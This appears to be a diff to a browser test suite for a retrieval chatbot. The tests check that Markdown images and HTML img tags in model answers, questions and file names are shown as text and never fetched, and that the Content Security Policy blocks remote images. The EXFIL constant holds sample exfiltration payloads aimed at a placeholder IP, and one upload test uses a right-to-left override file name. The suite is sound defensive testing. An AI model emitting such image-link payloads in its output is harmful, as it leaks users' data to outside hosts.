@@ -9,11 +9,15 @@ import json
 import shutil
 import time
 from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
 
+from assistant import Settings, build_assistant
+from assistant.web.guards import CSP
 from tests.conftest import ROOT
+from tests.fake_openai import fake_openai_server
 from tests.servers import bitan_server
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
@@ -52,20 +56,29 @@ def browser() -> Iterator:
         chromium.close()
 
 
-@pytest.fixture()
-def page(browser, server):
-    url, _ = server
+@contextmanager
+def open_page(browser, url: str) -> Iterator:
+    """The page in a fresh browser context; afterwards, every request it made must have gone
+    to the app itself."""
     context = browser.new_context(viewport={"width": 1400, "height": 1000})
     page = context.new_page()
     requests: list[str] = []
     page.on("request", lambda request: requests.append(request.url))
-    page.goto(url, wait_until="load")
+    response = page.goto(url, wait_until="load")
     page.wait_for_selector("#question textarea", timeout=30_000)
+    # Only the page's own origin may serve images, scripts, frames and connections.
+    assert response is not None and response.headers["content-security-policy"] == CSP
     yield page
     context.close()
     # The page needs nothing from the internet: every request went to the app itself.
     outside = [r for r in requests if not r.startswith((url, "data:", "blob:"))]
     assert outside == []
+
+
+@pytest.fixture()
+def page(browser, server):
+    with open_page(browser, server[0]) as page:
+        yield page
 
 
 def ask(page, question: str) -> None:
@@ -181,3 +194,99 @@ def test_new_conversation_clears_the_chat_and_sources(page):
     page.locator("#new-chat").click()
     page.wait_for_function("document.querySelectorAll('.bitan-card').length === 0")
     assert page.locator(".bitan-answer").count() == 0
+
+
+# -- untrusted text stays text (issue 16) -------------------------------------------------------
+EXFIL = (
+    "据钱荣新，宁城县组织开展代表履职评议[1]。\n\n![x](http://203.0.113.9/exfil?q=secret)\n\n"
+    "<img src=http://203.0.113.9/raw.png>"
+)
+ODD_NAME = "![f](pic.png) 积分.txt"
+
+
+@pytest.fixture(scope="module")
+def llm_server(column_index_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator:
+    """`bitan serve` with a language model (a fake OpenAI server) that answers with Markdown
+    images, over the column and a document whose file name is Markdown."""
+    data = tmp_path_factory.mktemp("browser-llm") / "data"
+    shutil.copytree(column_index_dir, data)
+    odd = data.parent / ODD_NAME
+    odd.write_text("青山县人大常委会建立代表履职积分制度，每季度公开一次。\n", encoding="utf-8")
+    build_assistant(Settings(data_dir=data)).ingest([odd])
+    with fake_openai_server() as (llm_url, fake):
+        env = {"BITAN_LLM": "openai:fake", "BITAN_LLM_BASE_URL": llm_url}
+        with bitan_server(data, env=env) as url:
+            yield url, fake
+
+
+@pytest.fixture()
+def llm_page(browser, llm_server):
+    with open_page(browser, llm_server[0]) as page:
+        yield page
+
+
+def test_markdown_images_in_an_answer_or_a_question_are_never_fetched(llm_page, llm_server):
+    _, fake = llm_server
+    fake.replies = [EXFIL]
+    ask(llm_page, "宁城县如何评价代表履职？![q](http://203.0.113.9/q.png)")
+    answer = llm_page.locator(".bitan-answer").last
+    assert "![x](http://203.0.113.9/exfil?q=secret)" in answer.inner_text()
+    assert "<img src=http://203.0.113.9/raw.png>" in answer.inner_text()
+    assert answer.locator("a.bitan-cite", has_text="[1]").count() == 1
+    question = llm_page.locator("#chatbot .bitan-question").last
+    assert question.inner_text() == "宁城县如何评价代表履职？![q](http://203.0.113.9/q.png)"
+    assert llm_page.locator("#chatbot img").count() == 0
+    shot(llm_page, "markdown-as-text")
+    # …and no request left the app, while the answer streamed or after (open_page checks).
+
+
+def test_the_content_security_policy_stops_a_remote_image(browser, server):
+    # Were some markup to get through, the browser itself would refuse to fetch from elsewhere.
+    context = browser.new_context()
+    page = context.new_page()
+    failed: list[tuple[str, str]] = []
+    page.on("requestfailed", lambda r: failed.append((r.url, r.failure or "")))
+    page.goto(server[0], wait_until="load")
+    page.wait_for_selector("#question textarea", timeout=30_000)
+    blocked = page.evaluate(
+        """() => new Promise(resolve => {
+            document.addEventListener('securitypolicyviolation',
+                e => resolve([e.effectiveDirective, e.blockedURI]), {once: true});
+            const img = document.createElement('img');
+            img.src = 'http://203.0.113.9/injected.png';
+            document.body.appendChild(img);
+        })"""
+    )
+    assert blocked == ["img-src", "http://203.0.113.9/injected.png"]
+    page.wait_for_timeout(200)
+    context.close()
+    assert ("http://203.0.113.9/injected.png", "csp") in failed  # blocked, never sent
+
+
+def test_the_delete_status_shows_a_file_name_as_text(llm_page):
+    llm_page.get_by_role("tab", name="资料库 Library").click()
+    llm_page.locator("#delete-source input").click()
+    llm_page.get_by_role("option", name=ODD_NAME).click()
+    llm_page.locator("#delete").click()
+    status = llm_page.locator("#library-status")
+    status.get_by_text(f"{ODD_NAME}: removed", exact=False).wait_for(timeout=30_000)
+    assert status.locator("img").count() == 0 and status.locator("a").count() == 0
+
+
+def test_a_dot_file_in_an_uploaded_batch_is_rejected_on_its_own(page, tmp_path: Path):
+    hidden = tmp_path / ".md"
+    hidden.write_text("青山县的隐藏文件。\n", encoding="utf-8")
+    named = tmp_path / "evil\u202etxt.md"  # shown as "evildm.txt" with the override kept
+    named.write_text("青山县人大常委会每年组织代表视察两次。\n", encoding="utf-8")
+    page.get_by_role("tab", name="资料库 Library").click()
+    page.locator("#upload input[type=file]").set_input_files([str(hidden), str(named)])
+    page.wait_for_timeout(500)
+    page.locator("#index-uploads").click()
+    status = page.locator("#library-status")
+    status.get_by_text("eviltxt.md: indexed", exact=False).wait_for(timeout=60_000)
+    lines = status.locator("li").all_inner_texts()
+    assert lines == [
+        ".md: rejected — a hidden file (its name starts with a dot)",
+        "eviltxt.md: indexed — 1 passage",
+    ]
+    assert page.locator(".toast-body").count() == 0  # no bare "Error" for the whole batch
